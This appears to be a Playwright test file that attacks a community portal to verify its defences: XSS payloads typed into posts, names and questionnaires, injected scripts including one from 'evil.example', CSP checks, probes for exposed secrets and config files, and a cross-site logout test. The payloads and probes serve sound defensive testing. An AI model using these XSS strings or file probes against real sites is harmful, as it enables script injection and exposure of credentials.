import { randomUUID } from 'node:crypto';
import type { Page } from '@playwright/test';
import { compositionSchema } from '@portal/contracts/release';
import { ADMIN_PASSWORD, openAsAdmin } from '../support/admin';
import { signUp } from '../support/members';
import { watch } from '../support/policy';
import { someAnswers } from '../pages/questionnaire';
import { expect, test } from '../support/test';

/** Each would run, or call the page's dialog, if it were ever taken for markup. */
const hostile = (mark: string) =>
  [
    `<script>alert("${mark}")</script>`,
    `<img src=x onerror=alert("${mark}")>`,
    `"><svg onload=alert("${mark}")>`,
    `{{constructor.constructor('alert("${mark}")')()}}`,
    `<a href="javascript:alert(1)">${mark}</a>`,
  ].join(' ');

const composition = async (page: Page) =>
  compositionSchema.parse(await (await page.request.get('/releases/registry.json')).json());

const fromOurPages = { 'sec-fetch-site': 'same-origin' };

/** Sees a text as text, and that none of it became an element. */
async function expectAsText(page: Page, text: string, where: string) {
  await expect(page.getByText(text).first(), where).toBeVisible();
  await expect(page.locator('[onerror], [onload], a[href^="javascript:"]'), where).toHaveCount(0);
}

test('attack: scripts typed into posts, comments, names and priorities — shown as text, nothing runs', async ({
  page,
}) => {
  const mark = randomUUID();
  const text = hostile(mark);
  const happened = await watch(page);
  await signUp(page, {
    firstName: `<img src=x onerror=alert(1)>`,
    lastName: mark,
    email: `${mark}@fivepillars.test`,
    password: `long enough ${mark}`,
  });
  const post = await page.request.post('/api/community/posts', { data: { content: text }, headers: fromOurPages });
  const { id } = (await post.json()) as { id: string };
  const comment = await page.request.post(`/api/community/posts/${id}/comments`, {
    data: { content: `A comment: ${text}` },
    headers: fromOurPages,
  });
  const title = hostile(mark).slice(0, 190);
  const priority = await page.request.post('/api/priorities', { data: { title }, headers: fromOurPages });
  expect([post.status(), comment.status(), priority.status()]).toEqual([201, 201, 201]);

  await page.goto('/community');
  await expectAsText(page, text, 'feed');
  const article = page.getByRole('article').filter({ hasText: mark }).first();
  await article.getByRole('button', { name: /^Comment/ }).click();
  await expectAsText(page, `A comment: ${text}`, 'comments');
  await page.goto('/dashboard');
  await expectAsText(page, title, 'dashboard');
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(happened).toEqual([]);
});

test('attack: scripts typed into the questionnaire — shown as text in the admin’s tables and dialog', async ({
  page,
}) => {
  const mark = randomUUID();
  const happened = await watch(page);
  const name = `<img src=x onerror=alert(1)> ${mark}`;
  const sent = await page.request.post('/api/questionnaire', {
    data: { ...someAnswers(), name, phone: '<b>555 010 2233</b>', businessDescription: hostile(mark) },
    headers: fromOurPages,
  });
  expect(sent.status()).toBe(201);
  const { id } = (await sent.json()) as { id: string };
  await openAsAdmin(page);

  await expectAsText(page, name, 'submissions');
  await page.getByRole('row').filter({ hasText: mark }).getByRole('button', { name: 'View' }).click();
  const details = page.getByRole('dialog', { name: 'Submission Details' });
  await expect(details).toContainText(hostile(mark));
  await expect(details.getByRole('link', { name: 'Call' })).toHaveAttribute('href', 'tel:5550102233');
  await expectAsText(page, hostile(mark), 'submission details');
  await page.goto('/admin/leads');
  await expectAsText(page, name, 'leads');
  await page.goto(`/admin/leads/${id}`);
  await expectAsText(page, hostile(mark), 'lead');
  await page.goto('/admin/outbox', { waitUntil: 'networkidle' });
  await expect(page.locator('[onerror], [onload]')).toHaveCount(0);
  expect(happened).toEqual([]);
});

// e2e/specs/screens sees each of the portal's own screens keep to it.
test('the security policy allows no inline script, and the documentation of the API keeps to it', async ({
  page,
  member: _member,
}) => {
  const happened = await watch(page);
  await page.goto('/api/docs', { waitUntil: 'networkidle' });
  expect(happened).toEqual([]);

  await page.goto('/dashboard');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const scripts = /script-src ([^;]*)/.exec(policy ?? '')?.[1] ?? '';
  expect(scripts).toMatch(/^'self'( 'sha256-[\w+/=]+')+$/);
  expect(policy).toMatch(/object-src 'none'|default-src 'none'/);
});

test('attack: a picture from another site on a member’s page — the security policy stops it, the site hears nothing', async ({
  page,
  member: _member,
  consoleErrors,
}) => {
  const asked: string[] = [];
  await page.route('https://tracker.fivepillars.test/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' });
  });
  await page.goto('/community');
  const directive = await page.evaluate(
    () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
        const picture = new Image();
        picture.onload = () => resolve('it was loaded');
        picture.src = 'https://tracker.fivepillars.test/1.svg';
        document.body.append(picture);
      }),
  );
  expect([directive, asked]).toEqual(['img-src', []]);
  consoleErrors.expect(/Content Security Policy/);
});

test('attack: a script slipped into a page — the security policy stops it', async ({ page, consoleErrors }) => {
  const happened = await watch(page);
  await page.goto('/');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "owned"';
    document.body.append(script);
    const button = document.createElement('button');
    button.setAttribute('onclick', 'document.title = "owned"');
    document.body.append(button);
    button.click();
    const outside = document.createElement('script');
    outside.src = 'https://evil.example/x.js';
    document.body.append(outside);
  });
  await expect.poll(() => happened).toHaveLength(3);
  expect(happened.every((line) => line.includes('script-src'))).toBe(true);
  expect(await page.title()).not.toBe('owned');
  consoleErrors.expect(/Content Security Policy/);
});

test('attack: looking for source maps, sources, settings and secrets in all that is served — none', async ({
  page,
}) => {
  const { releases } = await composition(page);
  const files = new Set(['/', '/admin', '/releases/registry.json']);
  for (const { app, version } of releases) {
    const description = await page.request.get(`/releases/${app}/${version}/release.json`);
    const { files: listed } = (await description.json()) as { files: Record<string, unknown> };
    for (const file of Object.keys(listed)) files.add(`/releases/${app}/${version}/${file}`);
  }
  expect(files.size).toBeGreaterThan(20);
  for (const file of files) {
    const answer = await page.request.get(file);
    expect([file, answer.status()]).toEqual([file, 200]);
    expect.soft(file).not.toMatch(/\.(map|tsx?|env)$/);
    const text = await answer.text();
    expect.soft(text.includes(ADMIN_PASSWORD), `${file} tells the admin password`).toBe(false);
    expect.soft(text, file).not.toMatch(/postgres:\/\/|BEGIN (RSA|EC|PRIVATE)|password_hash/);
    // The shell's development build keeps the comments of libraries, whose maps are nowhere.
    if (!file.includes('/development/')) expect.soft(text, file).not.toMatch(/sourceMappingURL=/);
    expect((await page.request.get(`${file}.map`)).status(), `${file}.map`).toBe(404);
  }
  for (const path of ['/.env', '/package.json', '/.git/config', '/api/src/main.ts', '/releases/registry.json.bak']) {
    const answer = await page.request.get(path);
    expect([path, answer.status()]).toEqual([path, 404]);
  }
});

test('attack: the address of Logout as a picture in a page, and behind a link of another site — nobody is signed out', async ({
  page,
  context,
  consoleErrors,
}) => {
  await signUp(page);
  await page.goto('/');
  await page.evaluate(async () => {
    for (const address of ['/api/logout', '/%61pi/logout']) {
      const picture = document.body.appendChild(new Image());
      await new Promise((resolve) => {
        picture.onload = picture.onerror = resolve;
        picture.src = address;
      });
    }
  });
  consoleErrors.expect(/status of 403/);
  const elsewhere = await context.newPage();
  await elsewhere.setContent(`<a href="${new URL('/api/logout', page.url()).href}">A present</a>`);
  await elsewhere.getByRole('link').click();
  await expect(elsewhere.getByRole('heading', { name: 'Log out?' })).toBeVisible();
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Your Business Transformation Hub' })).toBeVisible();

  await elsewhere.getByRole('button', { name: 'Log out' }).click();
  await expect(elsewhere.getByRole('link', { name: 'Sign In' }).first()).toBeVisible();
});
